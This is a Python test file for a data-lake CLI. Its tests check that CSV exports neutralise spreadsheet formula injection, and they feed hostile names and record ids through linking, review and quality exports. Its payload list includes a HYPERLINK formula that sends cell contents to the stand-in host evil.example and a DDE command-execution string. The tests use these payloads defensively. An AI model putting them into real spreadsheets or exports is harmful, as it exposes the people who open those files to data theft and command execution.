"""Every CSV a person opens runs no formula: each export, fed hostile names, read back cell by cell.

A cell "runs" when, after NFKC (what a spreadsheet's input method and radlake's own normalisation do to a
full-width ``＝``) and leading spaces, it starts with ``=``, ``+``, ``-``, ``@``, a tab or a line break. The
check below is written here, independently of :mod:`radlake.csvfiles`.
"""

from __future__ import annotations

import csv
import unicodedata
from pathlib import Path

import great_expectations as gx
import pandas as pd
import pyarrow as pa
import pytest
from typer.testing import CliRunner

from cli.main import app
from radlake import catalog
from radlake import lake as lake_io
from radlake.config import Settings
from radlake.csvfiles import safe_cell, unescape_cell

runner = CliRunner()

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "＝1+1",  # full-width: NFKC makes it "=1+1"
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "  =1+1",
    "＠SUM(1)",
    "'=already quoted",
]


def _runs(cell: str) -> bool:
    text = unicodedata.normalize("NFKC", cell).lstrip(" ")
    return bool(text) and text[0] in "=+-@\t\r\n"


def _cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def _assert_safe(path: Path, must_contain: int = 1) -> None:
    cells = _cells(path)
    running = [c for c in cells if _runs(c)]
    assert running == [], f"{path.name}: cells a spreadsheet would run: {running[:3]}"
    quoted = [c for c in cells if c.startswith("'")]
    assert len(quoted) >= must_contain, f"{path.name}: the hostile cells are not in the file"


def test_each_trigger_is_quoted_and_comes_back_exactly() -> None:
    for value in HOSTILE:
        written = safe_cell(value)
        assert not _runs(written), value
        assert unescape_cell(written) == value
    for value in ("CT头颅平扫", "h01:00467173", "", "a=b", "头颅CT-增强"):
        assert safe_cell(value) == value and unescape_cell(value) == value
    assert safe_cell(-1.5) == -1.5 and safe_cell(None) is None


@pytest.mark.slow
def test_empi_link_review_export_and_decisions(tmp_path: Path) -> None:
    from simulator.people import generate_registry

    registry = generate_registry(800, ["h01", "h02", "h03"], seed=31, hard=True).drop(columns=["person_id"])
    # Record ids pass through to both files unchanged: a source system's ids may start with anything.
    registry["record_id"] = [HOSTILE[i % 5] + r for i, r in enumerate(registry["record_id"])]
    records, links, review = tmp_path / "records.csv", tmp_path / "links.csv", tmp_path / "review.csv"
    registry.to_csv(records, index=False)
    args = ["empi", "link", "--input", str(records), "--output", str(links), "--review", str(review)]
    result = runner.invoke(app, args)
    assert result.exit_code == 0, result.output
    _assert_safe(links, must_contain=len(registry))
    _assert_safe(review)

    # The lake's queue, exported for a steward, then imported back into a decisions CSV.
    settings = Settings(lake=str(tmp_path / "lake"))
    schema = catalog.schemas.EMPI_REVIEW_QUEUE
    row = {
        "record_id_a": "h01:1",
        "record_id_b": "-h02:2",
        "empi_id_a": "E1",
        "empi_id_b": "E2",
        "match_probability": 0.5,
        "reason": "name",
        "records_affected": 2,
        "name_a": "＝1+1",
        "name_b": "=HYPERLINK(1)",
        "birth_date_a": "1990-01-01",
        "birth_date_b": "1990-01-01",
        "decision": None,
    }
    uri = catalog.uri(settings, "silver", "empi_review_queue")
    lake_io.replace(settings, uri, pa.Table.from_pylist([row], schema=schema))
    queue = tmp_path / "queue.csv"
    result = runner.invoke(app, ["empi", "review", "export", "--output", str(queue), "--lake", settings.lake])
    assert result.exit_code == 0, result.output
    _assert_safe(queue, must_contain=3)
    filled = pd.read_csv(queue, dtype=str, keep_default_na=False).assign(decision="never_link")
    filled.to_csv(tmp_path / "filled.csv", index=False)
    decisions = tmp_path / "decisions.csv"
    args = ["empi", "review", "import", str(tmp_path / "filled.csv"), "--by", "=steward", "--to-csv", str(decisions)]
    result = runner.invoke(app, args)
    assert result.exit_code == 0, result.output
    _assert_safe(decisions, must_contain=2)
    # Read back the way `empi link --decisions` reads it: the record id and the steward are exactly as given.
    from transforms.empi import read_records_file as _read_csv

    back = _read_csv(decisions, "steward decisions")
    assert set(back["record_id_a"]) | set(back["record_id_b"]) == {"h01:1", "-h02:2"}
    assert back["decided_by"].tolist() == ["=steward"]


def test_standardize_result_review_export_and_import(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    names = tmp_path / "names.csv"
    hostile = ["＝头颅平扫", "=HYPERLINK(1)头颅平扫", "@头颅平扫"]
    pd.DataFrame({"name": hostile}).to_csv(names, index=False)
    lake = str(tmp_path / "lake")
    result_csv, queue = tmp_path / "result.csv", tmp_path / "queue.csv"
    args = ["--column", "name", "--institution", "h01", "--lake", lake]
    assert runner.invoke(app, ["standardize", "-i", str(names), "-o", str(result_csv), *args]).exit_code == 0
    _assert_safe(result_csv, must_contain=3)
    export = ["standardize", "review", "export", "-o", str(queue), "--from-result", str(result_csv)]
    result = runner.invoke(app, [*export, "--institution", "h01", "--lake", lake])
    assert result.exit_code == 0, result.output
    _assert_safe(queue, must_contain=3)
    # The steward decides the full-width one; the decision is stored for the name exactly as the clerk typed it.
    filled = pd.read_csv(queue, dtype=str, keep_default_na=False)
    filled["decision_codes"] = "30010100010000"
    filled.to_csv(queue, index=False)
    result = runner.invoke(app, ["standardize", "review", "import", str(queue), "--lake", lake])
    assert result.exit_code == 0, result.output
    stored = lake_io.read_arrow(Settings(lake=lake), catalog.uri(Settings(lake=lake), "silver", "exam_name_decisions"))
    assert stored is not None
    assert sorted(stored.column("raw_name").to_pylist()) == sorted(hostile)


def test_quality_failing_rows(tmp_path: Path) -> None:
    from expectations.failing_rows import write_failing_rows
    from expectations.runner import ExpectationOutcome, SuiteResult
    from expectations.suites import Suite

    frame = pd.DataFrame({"key": ["＝1+1", "＝1+1", "ok"], "note": ["＠x", "-1", "+1"]})
    e = gx.expectations
    suite = Suite(
        name="t",
        layer="silver",
        table="silver/t",
        build=lambda: [e.ExpectColumnValuesToBeUnique(column="key")],
        description="test",
    )
    failed = ExpectationOutcome("expect_column_values_to_be_unique", "key", "critical", False, 2)
    outcome = SuiteResult("t", "silver", "silver/t", 3, False, True, [failed], "2024-03-04T00:00:00+00:00")
    (sample,) = write_failing_rows(Settings(lake=str(tmp_path / "lake")), suite, frame, outcome)
    _assert_safe(sample.path, must_contain=4)
